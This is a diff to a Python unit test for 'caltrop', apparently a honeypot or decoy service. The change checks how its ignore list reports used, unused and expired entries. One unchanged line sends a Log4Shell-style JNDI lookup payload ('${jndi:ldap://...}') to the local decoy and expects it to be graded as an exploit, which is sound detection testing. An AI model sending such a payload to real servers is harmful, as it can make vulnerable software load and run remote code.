@@ -148,7 +148,7 @@ class Learns(unittest.TestCase):
 
     def test_an_ignore_list(self):
         ignore = self.dir / "ignore"
-        ignore.write_text("# scanners\n127.0.0.0/8 tcp/%d until 2999-01-01 # ours\n" % self.port)
+        ignore.write_text("# scanners\n127.0.0.0/8 tcp/%d until 2999-01-01 # ours\n192.0.2.1\n192.0.2.2 until 2001-01-01\n" % self.port)
         self.start("--ignore", str(ignore))
         self.request()
         self.request("${jndi:ldap://10.6.6.6/a}")
@@ -156,6 +156,10 @@ class Learns(unittest.TestCase):
         self.stop()
         self.assertEqual([a["caltrop"]["grade"] for a in self.alerts()], ["exploit"]) # the payload alone
         self.assertIn("ignored", [c["caltrop"].get("background") for c in self.contacts()])
+        review = (self.dir / "decoy" / "ignored").read_text()
+        self.assertRegex(review, rf"(?m)^used    hits=\d+ last=\S+Z line=2  127\.0\.0\.0/8 tcp/{self.port} until 2999-01-01  # ours$")
+        self.assertRegex(review, r"(?m)^unused  hits=0 line=3  192\.0\.2\.1$")
+        self.assertRegex(review, r"(?m)^expired hits=0 line=4  192\.0\.2\.2 until 2001-01-01$")
         ignore.write_text("127.0.0.1\n127.0.0.2 tcp/http\n")
         got = subprocess.run([CALTROP, "decoy", "--unprivileged", "--data-dir", str(self.dir), "--ignore", str(ignore), "--for", "1"],
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
